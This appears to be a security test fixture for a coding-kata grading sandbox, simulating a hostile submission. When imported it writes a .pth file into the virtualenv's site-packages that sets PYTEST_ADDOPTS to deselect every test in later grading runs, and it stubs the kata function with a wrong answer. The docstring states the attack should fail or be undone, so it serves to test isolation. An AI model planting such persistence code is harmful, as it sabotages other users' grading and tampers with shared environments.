"""HOSTILE-CLASS attack: plant a .pth file in the venv's site-packages.

Tries: writes zz_hostile_class.pth, which Python runs at the start of every later process; in a
grading run it sets PYTEST_ADDOPTS to deselect every test, so later learners' katas "do not run".
Must happen: the write fails (read-only venv) or is detected and undone; classmates keep their
exact scores; the venv is unchanged.
"""

import site
import sysconfig

PTH = (
    "import os, sys; "
    "os.environ.__setitem__('PYTEST_ADDOPTS', '-k hostile_class_deselects_all') "
    "if any('dojo_learner_' in a for a in sys.argv) or 'DOJO_STATE_DIR' in os.environ "
    "or 'DOJO_PRIVATE_HEAD' in os.environ else None\n"
)

for _site_dir in {*site.getsitepackages(), sysconfig.get_paths()["purelib"]}:
    try:
        with open(f"{_site_dir}/zz_hostile_class.pth", "w") as _file:
            _file.write(PTH)
    except OSError:
        pass


async def greet(name: str, delay: float = 1.0) -> str:
    return "not a greeting"
